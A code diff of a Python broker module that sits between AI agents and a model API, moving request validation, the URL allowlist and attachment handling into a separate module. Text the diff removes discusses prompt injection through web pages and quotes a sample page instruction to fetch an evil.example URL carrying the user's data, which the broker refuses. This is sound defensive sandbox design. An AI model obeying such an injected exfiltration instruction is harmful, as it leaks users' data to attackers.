@@ -2,12 +2,14 @@
 
 An agent inherits one end of a `socket.socketpair()` (AF_UNIX, SOCK_STREAM: a datagram end could
 still send to the host's abstract sockets, whatever namespace the agent is in) and nothing else: no
-key, no network. It asks; the broker decides. A request is accepted only as a Messages call with a
-model the agent was granted and fields from an allowlist, its max_tokens clamped to what the
-agent's share and the run's budget can still pay for. The broker then sends it down the product's
-one road to the model (the injected `send`, which adds the key), bills the reply's real usage to
-the run's ledger and to the agent, and answers. Whatever an agent prints about its own usage is no
-longer evidence of anything.
+key, no network. It asks; the broker decides. What request a frame may become (the allowlist, the
+granted model and effort, the web's tools and its URL rule, attachments as blocks) is
+brokerrequest.py's to say; this module is the rest of the door: the channel and its frames, the
+refusals and the per-agent meter, max_tokens clamped to what the agent's share and the run's budget
+can still pay for, the call down the product's one road to the model (the injected `send`, which
+adds the key), the reply's real usage billed to the run's ledger and to the agent, the answer, and
+artifacts kept through the injected `save_artifact`. Whatever an agent prints about its own usage
+is no longer evidence of anything.
 
 The wire format is agent_runtime's (a 4-byte big-endian length, then UTF-8 JSON, both ways):
 
@@ -22,23 +24,13 @@ Frames up to MAX_FRAME_BYTES are read whatever they hold (an artifact's base64 m
 messages frame is then refused above MAX_REQUEST_BYTES, and the request built from it, the
 attachments inlined, above the API's own MAX_API_REQUEST_BYTES.
 
-The web (`"web": true`, for an agent whose grant allows it, in a run with the web on): the broker
-adds the API's server-side web_search and web_fetch tools (the plain versions, which need no code
-execution), `max_uses` the agent's searches left, continues a `pause_turn` with the paused content
-sent back as received, bills every leg (searches at their own price, held in full under a
-budget), and answers with the text followed by the cited sources.
-
-What a page can make an agent do. Search results and fetched pages are written by strangers and
-the model reads them, so a page can steer what the model answers (an agent's answer from the web
-is a claim with sources, never an instruction), what it searches for (a query goes to the API's
-search provider and no one else), and which of the URLs already in the conversation it fetches
-next: the API fetches no other, so the model cannot compose one. A page cannot send the user's
-data to an address of its choosing: the broker refuses a web request whose text holds a URL that
-did not appear in the task, its attachments (`known_urls`) or a search or fetch result seen in
-this run, so an agent's code told by a page to "fetch https://evil.example/?d=<the data>" is
-refused before any call. A link inside a fetched page becomes known only once a result carries
-it. Nor can a page reach the key, the network, the user's files or other agents: its text
-arrives as text in a reply, and the agent's walls and the broker's allowlist are what they were.
+The web (`"web": true`, for an agent whose grant allows it, in a run with the web on): the request
+carries the API's server-side web_search and web_fetch tools (the plain versions, which need no
+code execution) with `max_uses` the agent's searches left; the broker continues a `pause_turn` with
+the paused content sent back as received, bills every leg (searches at their own price, held in
+full under a budget), learns the URLs the results brought (brokerrequest.KnownUrls: what a page
+can and cannot make an agent do is told there), and answers with the text followed by the cited
+sources.
 
 One thread per channel. The runtime keeps one request in flight per connection, so a channel's
 thread is always either waiting for its agent or for that agent's one model call: a slow call
@@ -53,21 +45,18 @@ import base64
 import binascii
 import contextlib
 import json
-import os
-import re
 import socket
-import stat
 import threading
 import time
 from collections.abc import Callable, Collection, Mapping, Sequence
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 from typing import Any, Protocol, TypeVar
-from urllib.parse import urlsplit
 
 import agent_runtime
+import brokerrequest
 import redact
-from kinds import EFFORT_LEVELS
+from brokerrequest import Grant, KnownUrls, Refusal, checked, listed, shown
 from ledger import search_usd, tokens_in_bytes, usage_count, usage_searches
 from signals import shield_from_signals
 
@@ -80,8 +69,6 @@ MAX_DRAIN_BYTES = 64 * 1024 * 1024
 """A frame that declares more than this is not read at all: refused as malformed, channel closed."""
 MAX_API_REQUEST_BYTES = 32 * 1024 * 1024
 """The Messages API's own limit on a request: what the broker builds, attachments inlined."""
-MAX_IMAGES = 100
-"""The API's limit on images in one request (on 200k-context models; others take more)."""
 MAX_TOKENS_CAP = 21_333
 """The SDK refuses a non-streaming call above this max_tokens, so the broker never asks for more."""
 MIN_CALL_TOKENS = 256
@@ -91,12 +78,7 @@ MAX_CONTINUATIONS = 5
 WEB_USE_TOKENS = 5_000
 """Input held under a budget for each search or fetch a call may make: about what one search's
 results or one page adds (a guess, not a bound: the real usage is what is billed)."""
-MESSAGES_FIELDS = frozenset({"op", "request", "web", "files"})
 ARTIFACT_FIELDS = frozenset({"op", "name", "data"})
-REQUEST_FIELDS = frozenset({"model", "max_tokens", "system", "messages", "output_config"})
-"""Anything else in a request (tools, temperature, stream, metadata, ...) is refused, not
-stripped: an agent that asked for it should learn it cannot have it."""
-BLOCK_FIELDS = frozenset({"type", "text", "cache_control"})
 USAGE_FIELDS = (
     "input_tokens",
     "output_tokens",
@@ -104,7 +86,6 @@ USAGE_FIELDS = (
     "cache_read_input_tokens",
 )
 ARTIFACT_REFUSALS = frozenset({"invalid", "too_large", "forbidden"})
-URL_PATTERN = re.compile(r"https?://[^\s<>\"'`{}|\\^\[\]]+", re.IGNORECASE)
 
 
 class Price(Protocol):
@@ -153,26 +134,6 @@ SaveArtifact = Callable[[str, str, bytes], str]
 `kind` of invalid, too_large or forbidden) to refuse."""
 
 
-@dataclass(frozen=True)
-class Grant:
-    """What one agent may ask for."""
-
-    model: str
-    """Used when a request names none."""
-    allowed_models: frozenset[str]
-    """Models a request may name; always includes `model`."""
-    effort: str | None = None
-    """The ceiling of output_config.effort (lowered per model); None sends no effort."""
-    share_tokens: int | None = None
-    """Tokens (all four kinds) this agent's calls may use together; None is no share limit."""
-    web_allowed: bool = False
-    """Whether the agent may ask for the web (the planner marked it so)."""
-    max_searches: int = 0
-    """Web searches this agent's calls may make together (MAX_SEARCHES_PER_AGENT); 0: none."""
-    files: Mapping[str, Path] = field(default_factory=dict)
-    """Attachments by the name the agent uses for them -> where the broker reads them."""
-
-
 @dataclass
 class AgentUsage:
     """What one agent's channel cost, counted by the broker from real replies only."""
@@ -212,15 +173,6 @@ class AgentUsage:
         for mine, theirs in ((self.refusals, other.refusals), (self.failures, other.failures)):
             for kind, count in theirs.items():
                 mine[kind] = mine.get(kind, 0) + count
-
-
-class _Refusal(Exception):
-    """The broker will not make this call; `kind` is one of agent_runtime.REFUSAL_TYPES."""
-
-    def __init__(self, kind: str, message: str) -> None:
-        super().__init__(message)
-        self.kind = kind
-        self.message = message
 
 
 class _Malformed(Exception):
@@ -275,7 +227,7 @@ class Channel:
         """Change what the agent may ask for from its next request on (e.g. a late effort);
         `changes` are Grant's fields."""
         with self._lock:
-            self._grant = _checked(replace(self._grant, **changes))
+            self._grant = checked(replace(self._grant, **changes))
             return self._grant
 
     @property
@@ -308,10 +260,10 @@ class Channel:
             while True:
                 try:
                     read = self._read_frame()
-                except _Refusal as refusal:
+                except Refusal as refusal:
                     reply = self._refuse(refusal)
                 except _Malformed as error:
-                    self._send(self._refuse(_Refusal("malformed", str(error))))
+                    self._send(self._refuse(Refusal("malformed", str(error))))
                     return
                 else:
                     if read is None:
@@ -356,7 +308,7 @@ class Channel:
                 if not count:
                     return None
                 left -= count
-            raise _Refusal("too_large", f"the frame is {size} bytes; the limit is {limit}")
+            raise Refusal("too_large", f"the frame is {size} bytes; the limit is {limit}")
         body = self._read_exact(size)
         if body is None:
             return None
@@ -375,7 +327,7 @@ class Channel:
             return False
         return True
 
-    def _refuse(self, refusal: _Refusal) -> dict[str, Any]:
+    def _refuse(self, refusal: Refusal) -> dict[str, Any]:
         with self._lock:
             self._usage.refusals[refusal.kind] = self._usage.refusals.get(refusal.kind, 0) + 1
         return self._error(refusal.kind, refusal.message)
@@ -462,8 +414,7 @@ class Broker:
         self.budget_needed = 0.0
         """The largest worst case of an agent call the run's budget refused, in dollars."""
         self._lock = threading.Lock()
-        self._known: set[str] = {_normal(url) for url in _urls(" ".join(known_urls))}
-        """URLs (normalised) a web request may hold: the task's, the attachments', results'."""
+        self._known = KnownUrls(known_urls)
         self._closed = False
 
     def open_channel(
@@ -480,7 +431,7 @@ class Broker:
         meter: Recorder | None = None,
     ) -> Channel:
         """A served channel for one agent process; `meter` also records each real reply."""
-        grant = _checked(
+        grant = checked(
             Grant(
                 model=model,
                 allowed_models=frozenset(allowed_models),
@@ -534,13 +485,22 @@ class Broker:
             if op == "artifact":
                 return self._artifact(channel, frame)
             if op != "messages":
-                raise _Refusal("invalid", "the operations are 'messages' and 'artifact'")
+                raise Refusal("invalid", "the operations are 'messages' and 'artifact'")
             if size > self.max_request_bytes:
                 limit = self.max_request_bytes
-                raise _Refusal("too_large", f"the request is {size} bytes; the limit is {limit}")
-            request, added = self._build(channel, grant, frame)
+                raise Refusal("too_large", f"the request is {size} bytes; the limit is {limit}")
+            request, added = brokerrequest.build(
+                frame,
+                grant,
+                searches_used=channel.usage.searches,
+                web=self.web,
+                known=self._known,
+                max_tokens_cap=self.max_tokens_cap,
+                max_api_bytes=self.max_api_bytes,
+                effort_for_model=self._effort_for_model,
+            )
             return self._call(channel, grant, request, size + added)
-        except _Refusal as refusal:
+        except Refusal as refusal:
             return channel._refuse(refusal)
         except Exception as error:  # a bug here must not leave the agent waiting forever
             detail = f"{type(error).__name__}: {error}"[:500]
@@ -550,129 +510,24 @@ class Broker:
         """Keep a file the agent made, through the run's `save_artifact`."""
         unknown = sorted(set(frame) - ARTIFACT_FIELDS)
         if unknown:
-            raise _Refusal("invalid", f"unknown artifact fields: {_names(unknown)}")
+            raise Refusal("invalid", f"unknown artifact fields: {listed(unknown)}")
         name, data = frame.get("name"), frame.get("data")
         if not isinstance(name, str) or not name:
-            raise _Refusal("invalid", "an artifact's 'name' must be a non-empty string")
+            raise Refusal("invalid", "an artifact's 'name' must be a non-empty string")
         if not isinstance(data, str):
-            raise _Refusal("invalid", "an artifact's 'data' must be a base64 string")
+            raise Refusal("invalid", "an artifact's 'data' must be a base64 string")
         if self._save_artifact is None:
-            raise _Refusal("forbidden", "this run keeps no artifacts")
+            raise Refusal("forbidden", "this run keeps no artifacts")
         try:
             content = base64.b64decode(data, validate=True)
         except (binascii.Error, ValueError):
-            raise _Refusal("invalid", f"artifact {_shown(name)}: 'data' is not base64") from None
+            raise Refusal("invalid", f"artifact {shown(name)}: 'data' is not base64") from None
         try:
             stored = self._save_artifact(channel.name, name, content)
         except ValueError as error:
             kind = getattr(error, "kind", "invalid")
-            raise _Refusal(kind if kind in ARTIFACT_REFUSALS else "invalid", str(error)) from None
+            raise Refusal(kind if kind in ARTIFACT_REFUSALS else "invalid", str(error)) from None
         return {"ok": True, "name": stored, "bytes": len(content)}
-
-    def _build(
-        self, channel: Channel, grant: Grant, frame: dict[str, Any]
-    ) -> tuple[dict[str, Any], int]:
-        """The Messages request to send, from what the agent asked and what it was granted,
-        and how many bytes the broker added to it (tools, attachments)."""
-        unknown = sorted(set(frame) - MESSAGES_FIELDS)
-        if unknown:
-            raise _Refusal("invalid", f"unknown frame fields: {_names(unknown)}")
-        asked = frame.get("request")
-        if not isinstance(asked, dict):
-            raise _Refusal("invalid", "'request' must be an object")
-        unknown = sorted(set(asked) - REQUEST_FIELDS)
-        if unknown:
-            allowed = ", ".join(sorted(REQUEST_FIELDS))
-            raise _Refusal("invalid", f"fields not allowed: {_names(unknown)} (allowed: {allowed})")
-        model = asked.get("model", grant.model)
-        if not isinstance(model, str) or model not in grant.allowed_models:
-            allowed = ", ".join(sorted(grant.allowed_models))
-            raise _Refusal(
-                "forbidden", f"model {_shown(model)} is not allowed (allowed: {allowed})"
-            )
-        max_tokens = asked.get("max_tokens")
-        if not isinstance(max_tokens, int) or isinstance(max_tokens, bool) or max_tokens < 1:
-            raise _Refusal("invalid", "'max_tokens' must be a positive integer")
-        messages = asked.get("messages")
-        if not isinstance(messages, list) or not messages:
-            raise _Refusal("invalid", "'messages' must be a non-empty list")
-        request: dict[str, Any] = {
-            "model": model,
-            "max_tokens": min(max_tokens, self.max_tokens_cap),
-            "messages": [_message(item) for item in messages],
-        }
-        if "system" in asked:
-            request["system"] = _content(asked["system"], "system")
-        level = self._effort(grant, model, asked.get("output_config"))
-        if level:
-            request["output_config"] = {"effort": level}
-        added = 0
-        web = frame.get("web", False)
-        if not isinstance(web, bool):
-            raise _Refusal("invalid", "'web' must be true or false")
-        names = frame.get("files", [])
-        if not isinstance(names, list) or not all(isinstance(n, str) for n in names):
-            raise _Refusal("invalid", "'files' must be a list of names")
-        if web:
-            request["tools"] = self._web_tools(channel, grant, request)
-            added += len(json.dumps(request["tools"]))
-        if names:
-            blocks = self._attachments(grant, list(dict.fromkeys(names)))
-            _attach(request, blocks)
-            added += sum(len(json.dumps(block)) for block in blocks)
-        return request, added
-
-    def _web_tools(
-        self, channel: Channel, grant: Grant, request: dict[str, Any]
-    ) -> list[dict[str, Any]]:
-        """The server tools for a web call, if this agent may make one with this text."""
-        if not grant.web_allowed:
-            raise _Refusal("forbidden", "web search is not allowed for this agent")
-        if not self.web:
-            raise _Refusal("forbidden", "web search is off in this run")
-        used = channel.usage.searches
-        left = grant.max_searches - used
-        if left <= 0:
-            raise _Refusal(
-                "budget",
-                f"this agent's web searches are spent ({used} of {grant.max_searches}, the cap "
-                "per agent, MAX_SEARCHES_PER_AGENT); no further web calls",
-            )
-        texts = [_texts(request.get("system"))] + [
-            _texts(m["content"]) for m in request["messages"]
-        ]
-        with self._lock:
-            unknown = [url for url in _urls("\n".join(texts)) if _normal(url) not in self._known]
-        if unknown:
-            raise _Refusal(
-                "forbidden",
-                f"a web call may hold only URLs from the task, its attachments or search "
-                f"results, and {_shown(unknown[0])} is none of them",
-            )
-        return agent_runtime.web_tools(left)
-
-    def _attachments(self, grant: Grant, names: list[str]) -> list[dict[str, Any]]:
-        """The granted files as content blocks, each within the API's limits."""
-        blocks = [_attachment(grant, name, self.max_api_bytes) for name in names]
-        images = sum(1 for block in blocks if block["type"] == "image")
-        if images > MAX_IMAGES:
-            raise _Refusal(
-                "too_large", f"{images} images in one request; the API takes at most {MAX_IMAGES}"
-            )
-        return blocks
-
-    def _effort(self, grant: Grant, model: str, asked: Any) -> str | None:
-        """The grant's effort, or less if the agent asked for less, lowered for the model."""
-        wanted = grant.effort
-        if asked is not None:
-            if not isinstance(asked, dict) or set(asked) - {"effort"}:
-                raise _Refusal("invalid", "'output_config' may hold only 'effort'")
-            level = asked.get("effort")
-            if level not in EFFORT_LEVELS:
-                raise _Refusal("invalid", f"effort must be one of {', '.join(EFFORT_LEVELS)}")
-            if wanted is not None:
-                wanted = min(wanted, level, key=EFFORT_LEVELS.index)
-        return self._effort_for_model(model, wanted) if wanted else None
 
     def _call(
         self, channel: Channel, grant: Grant, request: dict[str, Any], size: int
@@ -684,7 +539,7 @@ class Broker:
         each continuation adds the content it sends back.
         """
         if size > self.max_api_bytes:
-            raise _Refusal(
+            raise Refusal(
                 "too_large",
                 f"with its attachments the request is about {size} bytes; the API takes at "
                 f"most {self.max_api_bytes}",
@@ -702,7 +557,7 @@ class Broker:
             for name in USAGE_FIELDS:
                 usage[name] += reply["counts"][name]
             searches += reply["searches"]
-            self._learn(reply["content"])
+            self._known.learn(reply["content"])
             if reply["stop_reason"] != "pause_turn" or "tools" not in request:
                 break
             turn = {"role": "assistant", "content": reply["content"]}
@@ -736,7 +591,7 @@ class Broker:
             used = channel.usage.tokens
             left = grant.share_tokens - used - estimate
             if left < min(MIN_CALL_TOKENS, max_tokens):
-                raise _Refusal(
+                raise Refusal(
                     "budget",
                     f"this agent's share of the budget is spent ({used} of "
                     f"{grant.share_tokens} tokens used, this prompt needs about {estimate}); "
@@ -753,7 +608,7 @@ class Broker:
         except self._budget_error as error:
             with self._lock:
                 self.budget_needed = max(self.budget_needed, getattr(error, "needed_usd", 0.0))
-            raise _Refusal("budget", f"the run's budget is spent: {error}") from None
+            raise Refusal("budget", f"the run's budget is spent: {error}") from None
         try:
             try:
                 sent = self._send({**request, "max_tokens": hold.tokens})
@@ -773,111 +628,6 @@ class Broker:
             "searches": searched,
         }
         return leg, hold.tokens
-
-    def _learn(self, content: list[Any]) -> None:
-        """Every URL a search or fetch result brought is one a later web request may hold."""
-        found = [source["url"] for _, source in _results(content)]
-        with self._lock:
-            self._known.update(_normal(url) for url in found)
-
-
-# ---- validation ----------------------------------------------------------------------------
-
-
-def _checked(grant: Grant) -> Grant:
-    """A grant as the broker keeps it: its own model always allowed, its effort a real level."""
-    if grant.effort is not None and grant.effort not in EFFORT_LEVELS:
-        raise ValueError(f"effort must be one of {', '.join(EFFORT_LEVELS)}, got {grant.effort!r}")
-    if not isinstance(grant.max_searches, int) or grant.max_searches < 0:
-        raise ValueError(f"max_searches must be a whole number, got {grant.max_searches!r}")
-    models = frozenset(grant.allowed_models) | {grant.model}
-    return replace(grant, allowed_models=models, files=dict(grant.files))
-
-
-def _names(names: list[str]) -> str:
-    shown = ", ".join(_shown(name) for name in names[:10])
-    return shown + (f" and {len(names) - 10} more" if len(names) > 10 else "")
-
-
-def _shown(value: Any) -> str:
-    """An agent's value, quoted and short, for an error message."""
-    text = repr(value)
-    return text if len(text) <= 80 else text[:77] + "..."
-
-
-def _block(block: Any, where: str) -> dict[str, Any]:
-    """A text block, the only kind an agent may write itself."""
-    if not isinstance(block, dict) or block.get("type") != "text":
-        raise _Refusal("invalid", f"{where}: only text blocks are allowed")
-    unknown = sorted(set(block) - BLOCK_FIELDS)
-    if unknown:
-        raise _Refusal("invalid", f"{where}: block fields not allowed: {_names(unknown)}")
-    if not isinstance(block.get("text"), str):
-        raise _Refusal("invalid", f"{where}: a text block's 'text' must be a string")
-    if "cache_control" in block and block["cache_control"] != {"type": "ephemeral"}:
-        raise _Refusal("invalid", f"{where}: cache_control may only be {{'type': 'ephemeral'}}")
-    return dict(block)
-
-
-def _content(content: Any, where: str) -> str | list[dict[str, Any]]:
-    if isinstance(content, str):
-        return content
-    if isinstance(content, list) and content:
-        return [_block(block, where) for block in content]
-    raise _Refusal("invalid", f"{where}: content must be a string or a list of text blocks")
-
-
-def _message(message: Any) -> dict[str, Any]:
-    if not isinstance(message, dict) or set(message) != {"role", "content"}:
-        raise _Refusal("invalid", "each message must be exactly {'role', 'content'}")
-    if message["role"] not in ("user", "assistant"):
-        raise _Refusal("invalid", "a message's role must be 'user' or 'assistant'")
-    return {"role": message["role"], "content": _content(message["content"], "messages")}
-
-
-def _attachment(grant: Grant, name: str, limit: int) -> dict[str, Any]:
-    """A granted file as the block the API reads it in: UTF-8 text inlined in a <file> text
-    block, a PDF as a base64 document, a PNG, JPEG, GIF or WEBP as a base64 image."""
-    path = grant.files.get(name)
-    if path is None:
-        raise _Refusal("forbidden", f"no file named {_shown(name)} was given to this agent")
-    try:
-        # O_NONBLOCK: a FIFO put where a file was must not hang the channel; fstat refuses it.
-        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC)
-        try:
-            status = os.fstat(fd)
-            regular, size, data = stat.S_ISREG(status.st_mode), status.st_size, b""
-            if regular and size <= limit:
-                with open(fd, "rb", closefd=False) as file:
-                    data = file.read(limit + 1)
-        finally:
-            os.close(fd)
-    except OSError as error:
-        raise _Refusal("invalid", f"file {_shown(name)} cannot be read: {error.strerror}") from None
-    if not regular:
-        raise _Refusal("invalid", f"file {_shown(name)} is not a regular file")
-    if size > limit:
-        raise _Refusal(
-            "too_large",
-            f"file {_shown(name)} is {size} bytes; the API takes at most {limit} in a request",
-        )
-    try:
-        return agent_runtime.file_block(name, data)
-    except agent_runtime.FileTooLarge as error:
-        raise _Refusal("too_large", str(error)) from None
-    except ValueError as error:
-        raise _Refusal("invalid", str(error)) from None
-
-
-def _attach(request: dict[str, Any], blocks: list[dict[str, Any]]) -> None:
-    """Put the attachments in front of the last user message's text."""
-    for message in reversed(request["messages"]):
-        if message["role"] == "user":
-            content = message["content"]
-            text = [{"type": "text", "text": content}] if isinstance(content, str) else content
-            message["content"] = [*blocks, *text]
-            return
-    raise _Refusal("invalid", "attachments need a user message to go with")
 
 
 # ---- replies -------------------------------------------------------------------------------
@@ -899,66 +649,6 @@ def _plain(reply: Any) -> dict[str, Any]:
     if not isinstance(plain, dict):
         raise TypeError(f"the road's {type(reply).__name__} is not a message")
     return plain
-
-
-def _results(content: list[Any]) -> list[tuple[str, dict[str, str]]]:
-    """Every search result and fetched page in the content, in order, as (the tool's name,
-    {title, url})."""
-    found: list[tuple[str, dict[str, str]]] = []
-    for block in content:
-        if not isinstance(block, dict):
-            continue
-        got = block.get("content")
-        if block.get("type") == "web_search_tool_result" and isinstance(got, list):
-            for result in got:
-                if isinstance(result, dict):
-                    found.append(("web_search", _named(result.get("title"), result.get("url"))))
-        elif block.get("type") == "web_fetch_tool_result" and isinstance(got, dict):
-            document = got.get("content")
-            title = document.get("title") if isinstance(document, dict) else None
-            found.append(("web_fetch", _named(title, got.get("url"))))
-    return [(tool, source) for tool, source in found if source["url"]]
-
-
-def _named(title: Any, url: Any) -> dict[str, str]:
-    url = url if isinstance(url, str) else ""
-    return {"title": title if isinstance(title, str) and title else url, "url": url}
-
-
-def _texts(content: Any) -> str:
-    """The text of a system prompt or a message's content (a string or text blocks)."""
-    if isinstance(content, str):
-        return content
-    if isinstance(content, list):
-        return "\n".join(str(b.get("text", "")) for b in content if isinstance(b, dict))
-    return ""
-
-
-def _urls(text: str) -> list[str]:
-    """The http(s) URLs in a text, without the punctuation that ends a sentence around them."""
-    found = []
-    for match in URL_PATTERN.finditer(text):
-        url = match.group(0)
-        while url:
-            closes = url[-1] == ")" and url.count(")") > url.count("(")
-            if url[-1] in ".,;:!?'\"" or closes:
-                url = url[:-1]
-            else:
-                break
-        found.append(url)
-    return found
-
-
-def _normal(url: str) -> str:
-    """A URL as the broker compares them: scheme and host lower-cased, no fragment, "/" for
-    an empty path."""
-    try:
-        parts = urlsplit(url.strip())
-    except ValueError:
-        return url.strip().lower()
-    path = parts.path or "/"
-    query = f"?{parts.query}" if parts.query else ""
-    return f"{parts.scheme.lower()}://{parts.netloc.lower()}{path}{query}"
 
 
 def _failure(error: BaseException) -> tuple[str, str]:
